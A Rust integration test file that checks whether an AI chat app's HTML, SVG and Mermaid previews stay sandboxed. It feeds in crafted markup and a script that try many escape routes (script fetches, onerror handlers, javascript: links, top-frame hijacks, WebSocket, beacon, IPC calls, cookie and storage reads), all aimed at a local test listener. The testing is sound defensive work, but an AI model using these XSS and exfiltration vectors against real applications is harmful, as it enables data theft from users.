//! What a model wrote as HTML, SVG or a diagram is drawn after a click, in a frame that reaches nothing: not the app, not
//! the network, not the window around it.

use crate::accessibility::{CUT, Findings, axe, axe_without};
use rivulet_tests::upstream::{Script, Upstream};
use rivulet_tests::{Browser, Desktop, PATIENCE, Page, Profile, Serve, ServeOptions, Window, wait_for};
use serde_json::{Value, json};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use thirtyfour::prelude::*;

/// A server that must hear nothing.
struct Listener {
    address: String,
    heard: Arc<AtomicUsize>,
}

impl Listener {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap().to_string();
        let heard = Arc::new(AtomicUsize::new(0));
        let count = Arc::clone(&heard);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                count.fetch_add(1, Ordering::SeqCst);
                drop(stream);
            }
        });
        Self { address, heard }
    }

    /// Nobody came but who is sent now, to show that it listens.
    async fn heard_nothing(&self) {
        TcpStream::connect(&self.address).unwrap();
        let heard = wait_for("the listener hears", PATIENCE, async || {
            Some(self.heard.load(Ordering::SeqCst)).filter(|heard| *heard > 0)
        })
        .await;
        assert_eq!(heard, 1, "a request left");
    }
}

/// An answer whose blocks try every way out.
fn answer(out: &str) -> String {
    let html = format!(
        r#"<!doctype html><html><head><meta http-equiv="refresh" content="0;url=http://{out}/refresh">
<base href="http://{out}/base/"><link rel="stylesheet" href="http://{out}/link.css"><link rel="preconnect" href="http://{out}">
<link rel="dns-prefetch" href="http://{out}"><style>@import url(http://{out}/import.css);
body {{ background: url(http://{out}/css.png); color: rgb(1, 2, 3) }} @font-face {{ font-family: x; src: url(http://{out}/font) }}
p {{ font-family: x }}</style></head><body onload="fetch('http://{out}/onload')"><p id="shown">Shown as a page</p>
<script>document.title = 'ran'; parent.document.title = 'ran'; fetch('http://{out}/fetch'); top.location = 'http://{out}/top'</script>
<img src="http://{out}/img.png" onerror="document.title = 'ran'"><iframe src="http://{out}/frame"></iframe>
<object data="http://{out}/object"></object><embed src="http://{out}/embed"><video src="http://{out}/video" autoplay></video>
<form action="http://{out}/form"><button id="send">Send</button></form><input type="image" src="http://{out}/input.png">
<a id="away" href="http://{out}/away">Away</a> <a id="top" href="http://{out}/a-top" target="_top">Top</a>
<a id="script" href="javascript:document.title='ran'">Script</a> <details open ontoggle="document.title='ran'">More</details>
</body></html>"#
    );
    let svg = format!(
        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="60" onload="document.title = 'ran'">
<script>document.title = 'ran'; fetch('http://{out}/svg')</script><image href="http://{out}/svg.png" width="9" height="9"/>
<use xlink:href="http://{out}/use.svg#a"/><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="http://{out}/foreign.png" onerror="document.title = 'ran'"/></foreignObject>
<a id="away" href="http://{out}/away"><circle id="shown" cx="30" cy="30" r="20" fill="teal"/></a></svg>"#
    );
    let diagram = format!(
        "%%{{init: {{\"securityLevel\": \"loose\", \"themeCSS\": \"* {{ background: url(http://{out}/theme.png) }}\", \"htmlLabels\": true}}}}%%\n\
         graph TD\n  A[\"<img src=http://{out}/label.png onerror=document.title='ran'> Spring\"] --> B[Mouth]\n\
         click A href \"http://{out}/click\"\n  click B href \"javascript:document.title='ran'\""
    );
    format!(
        "```html\n{html}\n```\n\n```xml\n{svg}\n```\n\n```mermaid\n{diagram}\n```\n\n```mermaid\ngraph TD\n  A --> --> B\n```\n\n```js\n1\n```\n\n![A river](http://{out}/river.png)\n"
    )
}

/// Opens the preview of a block and goes into its frame.
async fn enter(page: &Page, nth: usize) {
    let open = "document.querySelectorAll('.md-code-preview')[arguments[0]].click()";
    page.script(open, vec![json!(nth)]).await;
    let frame = page.driver.find(By::Css(".md-preview iframe")).await.unwrap();
    frame.enter_frame().await.unwrap();
}

async fn leave(page: &Page, nth: usize) {
    page.driver.enter_default_frame().await.unwrap();
    let close = "document.querySelectorAll('.md-code-preview')[arguments[0]].click();
        return document.querySelectorAll('.md-preview').length";
    assert_eq!(page.script(close, vec![json!(nth)]).await, json!(0));
}

async fn drawn(page: &Page, selector: &str) {
    wait_for(selector, PATIENCE, async || {
        let found =
            page.script("return document.querySelectorAll(arguments[0]).length > 0", vec![json!(selector)]).await;
        (found == json!(true)).then_some(())
    })
    .await;
}

/// As if something hostile ran in the frame after all: it reaches nothing.
const TRIES: &str = r#"
    const [out, done] = arguments;
    const tried = async (name, way) => { try { const got = await way(); return got === undefined ? null : `${name}: ${got}`; } catch { return null; } };
    (async () => done((await Promise.all([
        tried('parent', () => String(parent.document.title)),
        tried('top', () => String(top.document.body.innerText.length)),
        tried('origin', () => (origin === 'null' ? undefined : origin)),
        tried('storage', () => String(localStorage.length)),
        tried('cookie', () => (document.cookie = 'a=b', document.cookie || undefined)),
        tried('fetch', () => fetch(`http://${out}/tried`, { mode: 'no-cors' }).then(() => 'sent')),
        tried('own server', () => fetch('/').then(() => 'sent')),
        tried('ipc', () => fetch('ipc://localhost/settings_get', { method: 'POST' }).then(() => 'sent')),
        tried('internals', () => typeof window.__TAURI_INTERNALS__ === 'undefined' ? undefined : 'there'),
        tried('beacon', () => { navigator.sendBeacon(`http://${out}/beacon`); }),
        tried('socket', () => new Promise((sent, lost) => { const socket = new WebSocket(`ws://${out}/`); socket.onopen = () => sent('open'); socket.onerror = lost; })),
        tried('picture', () => new Promise((sent, lost) => { const one = new Image(); one.onload = () => sent('loaded'); one.onerror = lost; one.src = `http://${out}/picture`; })),
        tried('script', () => new Promise((sent, lost) => { const one = document.createElement('script'); one.onload = () => sent('loaded'); one.onerror = lost; one.src = `http://${out}/script.js`; document.head.append(one); })),
        tried('inline', () => { const one = document.createElement('script'); one.textContent = 'window.ran = true'; document.head.append(one); return window.ran ? 'ran' : undefined; }),
        tried('worker', () => { new Worker(`http://${out}/worker.js`); return 'made'; }),
        tried('window', () => (open(`http://${out}/window`) === null ? undefined : 'opened')),
        tried('top away', () => { top.location = `http://${out}/top-away`; }),
    ])).filter((one) => one !== null)))();
"#;

async fn reaches_nothing(page: &Page, out: &str) {
    let got = page.driver.execute_async(TRIES, vec![json!(out)]).await.unwrap();
    assert_eq!(*got.json(), json!([]), "what got out of the frame");
    for id in ["away", "top", "script", "send"] {
        page.script("document.getElementById(arguments[0])?.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))", vec![json!(id)]).await;
    }
    assert_ne!(page.script("return document.title", vec![]).await, json!("ran"));
}

async fn previews(page: &Page, listener: &Listener) {
    let out = &*listener.address;
    let count = page
        .script(
            "return [document.querySelectorAll('.md-code-preview').length, document.querySelectorAll('iframe').length]",
            vec![],
        )
        .await;
    assert_eq!(count, json!([4, 0]), "four blocks can be drawn, and none is before a click");
    let address = page.driver.current_url().await.unwrap();
    let title = page.driver.title().await.unwrap();

    enter(page, 0).await;
    drawn(page, "#shown").await;
    let style = page.script("return getComputedStyle(document.body).color", vec![]).await;
    assert_eq!(style, json!("rgb(1, 2, 3)"), "a page has its own look");
    reaches_nothing(page, out).await;
    leave(page, 0).await;

    enter(page, 1).await;
    drawn(page, "svg circle").await;
    reaches_nothing(page, out).await;
    leave(page, 1).await;

    enter(page, 2).await;
    drawn(page, "svg .node").await;
    let text = page.script("return document.body.textContent", vec![]).await;
    assert!(text.as_str().unwrap().contains("Mouth"), "{text}");
    reaches_nothing(page, out).await;
    leave(page, 2).await;

    // What cannot be drawn says so, and its code stays.
    page.script("document.querySelectorAll('.md-code-preview')[3].click()", vec![]).await;
    let said = "const said = document.querySelector('.md-preview');
        return said.querySelector('iframe') ? null : [said.innerText, said.nextElementSibling.innerText]";
    let said = wait_for("the diagram's error", PATIENCE, async || {
        Some(page.script(said, vec![]).await).filter(|said| *said != Value::Null)
    })
    .await;
    assert!(
        said[0].as_str().unwrap().contains("The code is below.") && said[0].as_str().unwrap().contains("line 2"),
        "{said}"
    );
    assert!(said[1].as_str().unwrap().contains("A --> --> B"), "{said}");

    assert_eq!(page.driver.current_url().await.unwrap(), address, "the page is where it was");
    assert_eq!(page.driver.title().await.unwrap(), title);
}

fn answering(listener: &Listener) -> Upstream {
    Upstream::start([Script::stream().text(&answer(&listener.address)).done()])
}

#[tokio::test]
async fn a_preview_in_the_window_reaches_nothing() {
    let listener = Listener::start();
    let upstream = answering(&listener);
    let desktop = Desktop::start().await;
    let window = Window::open(&desktop).await;
    window.page.use_upstream(&upstream).await;
    window.page.send("Draw.").await;
    window.page.answer_in(1, "complete").await;
    previews(&window.page, &listener).await;
    desktop.screenshot("preview-problem");
    // A picture is fetched by the core when it is asked for, and never from this computer.
    window.page.script("document.querySelector('.md-picture').click()", vec![]).await;
    let said = "return document.querySelector('.md-picture-said').textContent";
    wait_for("it is refused", PATIENCE, async || {
        let said = window.page.script(said, vec![]).await;
        said.as_str()?.starts_with("This address is not fetched").then_some(())
    })
    .await;
    let show = "document.querySelectorAll('.md-code-preview')[2].click();
        document.querySelector('.md-preview iframe').scrollIntoView({ block: 'center' })";
    window.page.script(show, vec![]).await;
    desktop.settled().await;
    desktop.screenshot("preview");
    window.close().await;
    listener.heard_nothing().await;
}

#[tokio::test]
async fn a_preview_in_a_browser_reaches_nothing() {
    let listener = Listener::start();
    let upstream = answering(&listener);
    let profile = Profile::new();
    let mut serve = Serve::start(&profile, &ServeOptions::custom(&upstream.base_url())).await;
    crate::start_sse(&serve.client, "first", "Draw.").await;
    let browser = Browser::open(&profile, &serve.link()).await;
    browser.page.answer_in(1, "complete").await;
    previews(&browser.page, &listener).await;
    browser.page.quit().await;
    serve.end().await;
    listener.heard_nothing().await;
}

/// A whole page, a picture, a diagram that is wider than any window, and one that cannot be drawn.
const DRAWN: &str = "```html\n<html lang=\"de\"><h1>Ein Fluss</h1><p>Er fließt.</p><a href=\"#a\">Weiter</a></html>\n```\n\n\
    ```svg\n<svg viewBox=\"0 0 80 60\" width=\"80\" role=\"img\" aria-label=\"A sun\"><circle cx=\"30\" cy=\"30\" r=\"20\"/></svg>\n```\n\n\
    ```mermaid\ngraph LR\n  A[Spring] --> B[A long way through the meadows] --> C[Another long way through the town] --> D[Mouth]\n```\n\n\
    ```mermaid\ngraph TD\n  A --> --> B\n```\n";
/// A frame is a part of a page, and what is in it is its author's.
const OF_A_PAGE: [&str; 3] = ["region", "landmark-one-main", "page-has-heading-one"];

#[tokio::test]
async fn previews_read_well_in_both_themes() {
    let upstream = Upstream::start([Script::stream().text(DRAWN).done()]);
    let desktop = Desktop::start().await;
    let window = Window::open(&desktop).await;
    let page = &window.page;
    page.use_upstream(&upstream).await;
    page.send("Draw.").await;
    page.answer_in(1, "complete").await;
    let mut findings = Findings::default();
    for (theme, language) in [("light", "en"), ("dark", "zh-CN")] {
        page.invoke("settings_update", json!({ "patch": { "theme": theme, "language": language } })).await.unwrap();
        let taken = "const { lang, dataset } = document.documentElement; return [dataset.theme, lang];";
        wait_for("the look is taken", PATIENCE, async || {
            (page.script(taken, vec![]).await == json!([theme, language])).then_some(())
        })
        .await;
        let screen = format!("previews, {theme}, {language}");
        // One after the other, and they stay: each has a program of its own to read.
        let open = "document.querySelectorAll('.md-code-preview')[arguments[0]].click()";
        for (nth, shape) in ["h1", "circle", ".node"].into_iter().enumerate() {
            page.script(open, vec![json!(nth)]).await;
            let frame = page.driver.find_all(By::Css(".md-preview iframe")).await.unwrap().remove(nth);
            let title = frame.attr("title").await.unwrap().unwrap();
            wait_for("the frame is there", PATIENCE, async || frame.clone().enter_frame().await.ok()).await;
            drawn(page, shape).await;
            let told = page.script("return [document.title, document.documentElement.lang]", vec![]).await;
            assert_eq!(told, json!([title, if nth == 0 { "de" } else { language }]), "what is drawn says what it is");
            axe_without(page, &format!("{screen}, inside of {title}"), &OF_A_PAGE, &mut findings).await;
            page.driver.enter_default_frame().await.unwrap();
        }
        page.script(open, vec![json!(3)]).await;
        let said = "return document.querySelector('.md-preview > p') !== null";
        wait_for("one cannot be drawn", PATIENCE, async || {
            (page.script(said, vec![]).await == json!(true)).then_some(())
        })
        .await;
        findings.add(&screen, &page.script(CUT, vec![]).await);
        axe(page, &screen, &mut findings).await;
        desktop.screenshot(&format!("previews-{theme}"));
        page.script("document.querySelectorAll('.md-code-preview').forEach((one) => one.click())", vec![]).await;
    }
    window.close().await;
    findings.none();
}
